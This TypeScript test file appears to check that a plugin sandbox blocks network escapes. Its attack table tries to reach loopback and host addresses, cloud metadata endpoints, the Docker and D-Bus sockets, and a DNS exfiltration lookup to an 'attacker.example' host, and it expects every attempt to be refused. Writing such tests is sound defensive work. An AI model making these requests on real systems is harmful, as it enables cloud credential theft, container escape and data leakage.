import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { type NetworkInterfaceInfo, networkInterfaces } from "node:os";
import { afterAll, beforeAll, expect } from "vitest";
import { testAttacks } from "./attack-table.js";

/** Everything that a guest might reach: this machine on all its addresses, and who comes. */
const visits: string[] = [];
const server = createServer((socket) => {
  visits.push("tcp");
  socket.destroy();
});
const local = createServer((socket) => {
  visits.push("unix");
  socket.destroy();
});
const datagrams = createSocket("udp4", () => visits.push("udp"));
const ABSTRACT = `\0escape-${process.pid}`;
let port = 0;

beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, "::", resolve));
  await new Promise<void>((resolve) => local.listen(ABSTRACT, resolve));
  const address = server.address();
  port = typeof address === "object" && address !== null ? address.port : 0;
  await new Promise<void>((resolve) => datagrams.bind(port, resolve));
});
afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  await new Promise((resolve) => local.close(resolve));
  await new Promise<void>((resolve) => datagrams.close(resolve));
});

function ownAddresses(): readonly string[] {
  const all = Object.values(networkInterfaces()).flatMap((list): NetworkInterfaceInfo[] => list ?? []);
  return all.filter(({ scopeid }) => scopeid === undefined || scopeid === 0).map(({ address }) => address);
}

const hosts = () => ["127.0.0.1", "::1", "localhost", "0.0.0.0", ...ownAddresses()];

testAttacks("The network", [
  {
    plugin: "opens-sockets",
    tries: () => [
      ...hosts().flatMap((host) => [
        { way: "connect", target: { host, port } },
        { way: "fetch", target: `http://${host.includes(":") ? `[${host}]` : host}:${port}/` },
        { way: "datagram", target: { host, port, type: host.includes(":") ? "udp6" : "udp4" } },
      ]),
      { way: "connect", target: { host: "169.254.169.254", port: 80 } },
      { way: "fetch", target: "http://169.254.169.254/latest/meta-data/" },
      { way: "fetch", target: "http://metadata.google.internal/" },
      ...["/run/docker.sock", "/var/run/dbus/system_bus_socket", "/data/socket", ABSTRACT].map((path) => ({
        way: "connect",
        target: { path },
      })),
      ...[{ port: 0 }, { port: 8080, host: "127.0.0.1" }, { path: "/data/listen" }, { path: "\0listen" }].map(
        (target) => ({
          way: "listen",
          target,
        }),
      ),
      { way: "lookup", target: "secret-in-a-label.attacker.example" },
      { way: "resolve", target: "secret-in-a-label.attacker.example" },
    ],
    refused: /EPERM|EACCES|EAI_AGAIN|EAI_FAIL|ENOTFOUND|ECONNREFUSED|ESERVFAIL|ETIMEOUT|ENOENT|EAFNOSUPPORT/,
    guarded: /a plugin has no network of its own|Cannot listen/,
    outside: () => expect(visits).toEqual([]),
  },
]);
